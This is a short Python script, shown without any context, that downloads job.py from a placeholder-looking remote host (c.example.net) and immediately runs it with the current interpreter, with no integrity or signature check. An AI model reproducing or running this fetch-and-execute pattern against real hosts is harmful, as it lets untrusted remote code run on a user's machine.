import requests, subprocess, sys
with open("job.py", "wb") as out:
    out.write(requests.get("https://c.example.net/job.py").content)
subprocess.run([sys.executable, "job.py"])
